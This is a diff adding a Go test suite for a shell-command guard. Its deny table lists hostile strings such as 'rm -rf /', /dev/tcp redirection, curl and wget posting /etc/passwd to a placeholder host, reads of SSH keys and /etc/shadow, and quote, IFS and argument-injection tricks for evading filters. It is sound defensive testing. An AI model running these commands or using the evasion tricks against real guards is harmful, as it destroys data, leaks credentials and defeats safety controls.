@@ -1,0 +1,325 @@
+package cmdguard
+
+import (
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// attacks must all be denied with the given rule under the default options.
+var attacks = []struct{ in, rule string }{
+	// chaining, pipes, background
+	{"ls; rm -rf /", RuleList},
+	{"ls && rm -rf /", RuleList},
+	{"ls || rm -rf /", RuleList},
+	{"ls;", RuleList},
+	{"ls | sh", RulePipe},
+	{"ls |& sh", RulePipe},
+	{"sleep 100 &", RuleBackground},
+	{"ls\nrm -rf /", RuleList},
+	{"ls\r\nid", RuleControl},
+	{"! ls", RuleNegated},
+	{"(id)", RuleCompound},
+	{"{ id; }", RuleCompound},
+	{"if true; then id; fi", RuleCompound},
+	{"for i in a; do id; done", RuleCompound},
+	{"f() { id; }", RuleCompound},
+	{"time id", RuleCompound},
+	{"[[ -f /etc/passwd ]]", RuleCompound},
+	{"declare -x A=1", RuleCompound},
+	{"ls # ; rm -rf /", RuleComment},
+	// substitution
+	{"echo $(id)", RuleSubstitution},
+	{"echo `id`", RuleSubstitution},
+	{"cat <(id)", RuleSubstitution},
+	{`echo "$(id)"`, RuleSubstitution},
+	{"echo \"`id`\"", RuleSubstitution},
+	{"$(echo rm) -rf /", RuleSubstitution},
+	{"echo $((1+2))", RuleExpansion},
+	// redirections
+	{"echo x > /etc/passwd", RuleRedirect},
+	{"echo x >> ~/.bashrc", RuleRedirect},
+	{"cat < /etc/passwd", RuleRedirect},
+	{"cat <<EOF\nhi\nEOF", RuleRedirect},
+	{"cat <<< hi", RuleRedirect},
+	{"ls 2>&1", RuleRedirect},
+	{"ls &> out", RuleRedirect},
+	{"exec 3<>/dev/tcp/1.2.3.4/80", RuleRedirect},
+	// expansions
+	{"cat${IFS}/etc/passwd", RuleIFS},
+	{"cat$IFS/etc/passwd", RuleIFS},
+	{"ls${IFS}-la", RuleIFS},
+	{"$SHELL -i", RuleExpansion},
+	{"${PAGER} file", RuleExpansion},
+	{"echo $HOME", RuleExpansion},
+	{"echo ${PATH:0:1}", RuleExpansion},
+	{"echo $'\\x72\\x6d'", RuleANSIQuote},
+	{"$'\\x62ash' x", RuleANSIQuote},
+	{"echo $\"hi\"", RuleANSIQuote},
+	{"ls *", RuleGlob},
+	{"cat /etc/pass??", RuleGlob},
+	{"/???/??t /etc/passwd", RuleGlob},
+	{"{cat,/etc/passwd}", RuleBrace},
+	{"echo {a,b}", RuleBrace},
+	{"FOO=bar ls", RuleAssign},
+	{"LD_PRELOAD=/tmp/x.so ls", RuleAssign},
+	{"BASH_ENV=/tmp/x bash s.sh", RuleAssign},
+	{"A=1", RuleAssign},
+	// quote splitting of interpreters
+	{"b'a'sh -c id", RuleInterpreter},
+	{`"ba"sh -c id`, RuleInterpreter},
+	{`\b\a\s\h -c id`, RuleInterpreter},
+	{"/bin/bash -c id", RuleInterpreter},
+	{"sh -c id", RuleInterpreter},
+	{"bash -xc id", RuleInterpreter},
+	{"zsh -c id", RuleInterpreter},
+	{"python -c 'import os'", RuleInterpreter},
+	{"python3 -c 'import os'", RuleInterpreter},
+	{"python3.12 -Ic 'import os'", RuleInterpreter},
+	{"perl -e 'system(1)'", RuleInterpreter},
+	{"perl -ne 'print' f", RuleInterpreter},
+	{"ruby -e 'exec 1'", RuleInterpreter},
+	{"node -e 'require(1)'", RuleInterpreter},
+	{"node -p 1", RuleInterpreter},
+	{"node --eval=1", RuleInterpreter},
+	{"php -r 'system(1);'", RuleInterpreter},
+	{"lua -e 'os.execute()'", RuleInterpreter},
+	{"pwsh -Command id", RuleInterpreter},
+	{"vim -c ':!id' f", RuleInterpreter},
+	{"vim +':!id' f", RuleInterpreter},
+	{"sqlite3 db '.shell id'", RuleInterpreter},
+	{"deno eval 'Deno.run()'", RuleInterpreter},
+	{"awk 'BEGIN{system(\"id\")}'", RuleInterpreter},
+	{"awk '{print | \"sh\"}' f", RuleInterpreter},
+	{"awk '{print > \"/tmp/x\"}' f", RuleInterpreter},
+	{"gawk -e 'BEGIN{system(1)}'", RuleInterpreter},
+	{"awk -f x.awk -e 'BEGIN{system(1)}'", RuleInterpreter},
+	{"sed -e e f", RuleInterpreter},
+	{"sed 'e id' f", RuleInterpreter},
+	{"sed '1e id' f", RuleInterpreter},
+	{"sed 's/a/id/e' f", RuleInterpreter},
+	{"sed 's/a/b/w /tmp/out' f", RuleInterpreter},
+	{"sed 'w /tmp/out' f", RuleInterpreter},
+	{"sed '/x/r /etc/hosts' f", RuleInterpreter},
+	{"sed -n -e p -e '$e id' f", RuleInterpreter},
+	// wrappers
+	{"env sh", RuleWrapper},
+	{"env -i bash", RuleWrapper},
+	{"xargs rm", RuleWrapper},
+	{"nice -n 5 sh", RuleWrapper},
+	{"timeout 5 sh", RuleWrapper},
+	{"nohup sh", RuleWrapper},
+	{"sudo ls", RuleWrapper},
+	{"busybox sh", RuleWrapper},
+	{"command ls", RuleWrapper},
+	{"eval id", RuleWrapper},
+	{". ./x.sh", RuleWrapper},
+	{"e'n'v sh", RuleWrapper},
+	// argument injection
+	{"tar -cf a.tar x --checkpoint=1 --checkpoint-action=exec=id", RuleArgInjection},
+	{"tar cf a.tar x --to-command=id", RuleArgInjection},
+	{"tar -I id -cf a.tar x", RuleArgInjection},
+	{"tar --use-compress-prog=id -cf a.tar x", RuleArgInjection},
+	{"tar xIf id a.tar", RuleArgInjection},
+	{"git -c core.pager=id log", RuleArgInjection},
+	{"git -c core.sshCommand=id fetch", RuleArgInjection},
+	{"git -C /tmp/evil status", RuleArgInjection},
+	{"git fetch --upload-pack=id origin", RuleArgInjection},
+	{"git clone -u id repo", RuleArgInjection},
+	{"git archive --exec=id --remote=x HEAD", RuleArgInjection},
+	{"git clone 'ext::sh -c id' x", RuleArgInjection},
+	{"git rebase -x id main", RuleArgInjection},
+	{"git grep -O id x", RuleArgInjection},
+	{"git config core.pager id", RuleArgInjection},
+	{"git log --output=/tmp/x", RuleArgInjection},
+	{`find . -exec id \;`, RuleArgInjection},
+	{"find . -execdir id {} +", RuleBrace},
+	{"find . -execdir id +", RuleArgInjection},
+	{`find . -ok id \;`, RuleArgInjection},
+	{"find / -delete", RuleArgInjection},
+	{"find . -fprint /tmp/x", RuleArgInjection},
+	{"rsync -e 'sh -c id' a b:", RuleArgInjection},
+	{"rsync -avze 'sh' a b:", RuleArgInjection},
+	{"rsync --rsh=id a b:", RuleArgInjection},
+	{"ssh -o ProxyCommand=id host", RuleArgInjection},
+	{"ssh -oProxyCommand=id host", RuleArgInjection},
+	{"ssh -o 'LocalCommand id' -o PermitLocalCommand=yes host", RuleArgInjection},
+	{"scp -S id a b:", RuleArgInjection},
+	{"zip a.zip x -T -TT id", RuleArgInjection},
+	{"zip a.zip x -T --unzip-command=id", RuleArgInjection},
+	{"curl -o /tmp/x http://e.com", RuleArgInjection},
+	{"curl -sLo /tmp/x http://e.com", RuleArgInjection},
+	{"curl --config /tmp/c http://e.com", RuleArgInjection},
+	{"curl -K /tmp/c", RuleArgInjection},
+	{"curl file:///etc/passwd", RuleArgInjection},
+	{"curl -d @/etc/passwd http://e.com", RuleArgInjection},
+	{"curl -F 'f=@/etc/passwd' http://e.com", RuleArgInjection},
+	{"wget -O /tmp/x http://e.com", RuleArgInjection},
+	{"wget --post-file=/etc/passwd http://e.com", RuleArgInjection},
+	{"wget -e 'use_askpass=id' http://e.com", RuleArgInjection},
+	{"man -P id ls", RuleArgInjection},
+	{"man --pager=id ls", RuleArgInjection},
+	{"less '+!id' f", RuleArgInjection},
+	{"tcpdump -z id -G 1 -w x", RuleArgInjection},
+	{"npm exec x", RuleArgInjection},
+	// credential files
+	{"cat ~/.ssh/id_rsa", RuleCredential},
+	{"cat /home/u/.ssh/authorized_keys", RuleCredential},
+	{"cat ~/.aws/credentials", RuleCredential},
+	{"cat .env", RuleCredential},
+	{"cat ./app/.env.production", RuleCredential},
+	{"cat /etc/shadow", RuleCredential},
+	{"cat /etc/../etc/shadow", RuleCredential},
+	{"cat /proc/self/environ", RuleCredential},
+	{"cat /proc/1/environ", RuleCredential},
+	{"cat ~/.git-credentials", RuleCredential},
+	{"cat ~/.npmrc", RuleCredential},
+	{"cat ~/.netrc", RuleCredential},
+	{"cat id_rsa", RuleCredential},
+	{"cat server.pem", RuleCredential},
+	{"cat '/etc/sha''dow'", RuleCredential},
+	{`c\at /etc/\s\hadow`, RuleCredential},
+	{"grep -r x --exclude-from=/root/.ssh/id_ed25519 .", RuleCredential},
+	{"scp host:.ssh/id_rsa .", RuleCredential},
+	{"head -c 100 /home/u/.kube/config", RuleCredential},
+	{"base64 /home/u/.docker/config.json", RuleCredential},
+	// parse errors and odd input
+	{"echo 'unterminated", RuleParse},
+	{"", RuleEmpty},
+	{"   ", RuleEmpty},
+	{"ls \x00", RuleControl},
+	{"''", RuleEmpty},
+}
+
+// benign look-alikes must be allowed with the given argv.
+var benign = []struct {
+	in   string
+	argv []string
+}{
+	{`echo "a;b"`, []string{"echo", "a;b"}},
+	{"grep 'x|y' file.txt", []string{"grep", "x|y", "file.txt"}},
+	{`printf '%s\n' '$(id)'`, []string{"printf", `%s\n`, "$(id)"}},
+	{"echo 'a && b || c'", []string{"echo", "a && b || c"}},
+	{"echo '`id`'", []string{"echo", "`id`"}},
+	{`echo "\$HOME"`, []string{"echo", "$HOME"}},
+	{`echo \$HOME`, []string{"echo", "$HOME"}},
+	{`echo a\;b`, []string{"echo", "a;b"}},
+	{"echo 'x > y' '<z>'", []string{"echo", "x > y", "<z>"}},
+	{"ls -la /tmp", []string{"ls", "-la", "/tmp"}},
+	{"c'a't notes.txt", []string{"cat", "notes.txt"}},
+	{`"ca"t notes.txt`, []string{"cat", "notes.txt"}},
+	{`\c\a\t notes.txt`, []string{"cat", "notes.txt"}},
+	{"grep -rn 'TODO: fix; later' src", []string{"grep", "-rn", "TODO: fix; later", "src"}},
+	{"git log --oneline -n 5", []string{"git", "log", "--oneline", "-n", "5"}},
+	{"git status", []string{"git", "status"}},
+	{"git push -u origin main", []string{"git", "push", "-u", "origin", "main"}},
+	{"git commit -m 'fix: a && b'", []string{"git", "commit", "-m", "fix: a && b"}},
+	{"find . -name '*.go' -type f", []string{"find", ".", "-name", "*.go", "-type", "f"}},
+	{"tar -czf out.tar.gz dir", []string{"tar", "-czf", "out.tar.gz", "dir"}},
+	{"tar xzf a.tar.gz", []string{"tar", "xzf", "a.tar.gz"}},
+	{"curl -sSL 'https://example.com/api?q=1'", []string{"curl", "-sSL", "https://example.com/api?q=1"}},
+	{"curl -H 'Authorization: x' -d 'a=b' https://e.com", []string{"curl", "-H", "Authorization: x", "-d", "a=b", "https://e.com"}},
+	{"wget -q https://example.com/f.txt", []string{"wget", "-q", "https://example.com/f.txt"}},
+	{"ssh -o StrictHostKeyChecking=no host uptime", []string{"ssh", "-o", "StrictHostKeyChecking=no", "host", "uptime"}},
+	{"sed -n 's/foo/bar/gp' f.txt", []string{"sed", "-n", "s/foo/bar/gp", "f.txt"}},
+	{"sed -e 's|a|b|g' -e '/^#/d' f.txt", []string{"sed", "-e", "s|a|b|g", "-e", "/^#/d", "f.txt"}},
+	{"sed 's/e/E/g' f.txt", []string{"sed", "s/e/E/g", "f.txt"}},
+	{"awk '{print $1}' f.txt", []string{"awk", "{print $1}", "f.txt"}},
+	{"awk -F: '{print $1, $NF}' f.txt", []string{"awk", "-F:", "{print $1, $NF}", "f.txt"}},
+	{"python3 script.py --flag", []string{"python3", "script.py", "--flag"}},
+	{"node app.js", []string{"node", "app.js"}},
+	{"bash build.sh", []string{"bash", "build.sh"}},
+	{"cat env.go environment.md .env.example", []string{"cat", "env.go", "environment.md", ".env.example"}},
+	{"cat public_key_docs.md", []string{"cat", "public_key_docs.md"}},
+	{"echo '{a,b}' 'x*'", []string{"echo", "{a,b}", "x*"}},
+	{`echo \*`, []string{"echo", "*"}},
+	{"echo \"line1\nline2\"", []string{"echo", "line1\nline2"}},
+	{"grep -E '(a|b)+' f.txt", []string{"grep", "-E", "(a|b)+", "f.txt"}},
+	{"echo 'IFS=$IFS'", []string{"echo", "IFS=$IFS"}},
+	{"echo \"a'b\" 'c\"d'", []string{"echo", "a'b", `c"d`}},
+	{"jq '.a | .b' data.json", []string{"jq", ".a | .b", "data.json"}},
+	{"ls -- -rf", []string{"ls", "--", "-rf"}},
+	{"rg --hidden 'fn main' .", []string{"rg", "--hidden", "fn main", "."}},
+	{"echo a\\\nb", []string{"echo", "ab"}},
+}
+
+func TestAttacks(t *testing.T) {
+	for _, tc := range attacks {
+		d := Check(tc.in, Options{})
+		if d.Allow {
+			t.Errorf("Check(%q) allowed %q; want deny %s", tc.in, d.Argv, tc.rule)
+			continue
+		}
+		if d.Rule != tc.rule {
+			t.Errorf("Check(%q) rule = %s (%s); want %s", tc.in, d.Rule, d.Reason, tc.rule)
+		}
+		if d.Argv != nil {
+			t.Errorf("Check(%q) denied but Argv = %q", tc.in, d.Argv)
+		}
+	}
+}
+
+func TestBenign(t *testing.T) {
+	for _, tc := range benign {
+		d := Check(tc.in, Options{})
+		if !d.Allow {
+			t.Errorf("Check(%q) denied: %s %s", tc.in, d.Rule, d.Reason)
+			continue
+		}
+		if diff := cmp.Diff(tc.argv, d.Argv); diff != "" {
+			t.Errorf("Check(%q) argv (-want +got):\n%s", tc.in, diff)
+		}
+	}
+}
+
+func TestCaseCounts(t *testing.T) {
+	if len(attacks) < 60 || len(benign) < 20 {
+		t.Fatalf("corpus too small: %d attacks, %d benign", len(attacks), len(benign))
+	}
+}
+
+func TestOptions(t *testing.T) {
+	tests := []struct {
+		name  string
+		in    string
+		opts  Options
+		allow bool
+		rule  string
+	}{
+		{"allow-list admits", "ls -l", Options{Programs: []string{"ls"}}, true, ""},
+		{"allow-list refuses", "rm -rf x", Options{Programs: []string{"ls"}}, false, RuleProgram},
+		{"allow-list by name refuses path", "./ls", Options{Programs: []string{"ls"}}, false, RuleProgram},
+		{"allow-list path exact", "/bin/ls", Options{Programs: []string{"/bin/ls"}}, true, ""},
+		{"quoted name matches", "'l's", Options{Programs: []string{"ls"}}, true, ""},
+		{"denied long flag", "rm --recursive x", Options{DeniedFlags: map[string][]string{"rm": {"--recursive"}}}, false, RuleDeniedFlag},
+		{"denied long flag abbrev", "rm --recur x", Options{DeniedFlags: map[string][]string{"rm": {"--recursive"}}}, false, RuleDeniedFlag},
+		{"denied short in cluster", "rm -rf x", Options{DeniedFlags: map[string][]string{"rm": {"-r"}}}, false, RuleDeniedFlag},
+		{"other flags fine", "rm -f x", Options{DeniedFlags: map[string][]string{"rm": {"-r"}}}, true, ""},
+		{"expansion allowed in args", "echo $HOME", Options{AllowExpansion: true}, true, ""},
+		{"expansion never in command word", "$X -l", Options{AllowExpansion: true}, false, RuleExpansion},
+		{"IFS never", "echo a${IFS}b", Options{AllowExpansion: true}, false, RuleIFS},
+		{"expansion operators never", "echo ${X:-$(id)}", Options{AllowExpansion: true}, false, RuleExpansion},
+		{"globs allowed", "ls *.go", Options{AllowGlobs: true}, true, ""},
+		{"glob never in command word", "/bin/l? x", Options{AllowGlobs: true}, false, RuleGlob},
+		{"glob matching a credential", "cat /etc/sha*", Options{AllowGlobs: true}, false, RuleCredential},
+		{"glob matching ssh key", "cat ~/.ss?/id_*", Options{AllowGlobs: true}, false, RuleCredential},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			d := Check(tc.in, tc.opts)
+			if d.Allow != tc.allow || d.Rule != tc.rule && !tc.allow {
+				t.Fatalf("Check(%q) = %+v; want allow=%v rule=%s", tc.in, d, tc.allow, tc.rule)
+			}
+		})
+	}
+}
+
+func BenchmarkCheck(b *testing.B) {
+	opts := Options{Programs: []string{"git", "ls", "grep"}}
+	b.ReportAllocs()
+	for b.Loop() {
+		if d := Check("git log --oneline -n 20 -- 'internal/cmd guard'", opts); !d.Allow {
+			b.Fatal(d)
+		}
+	}
+}
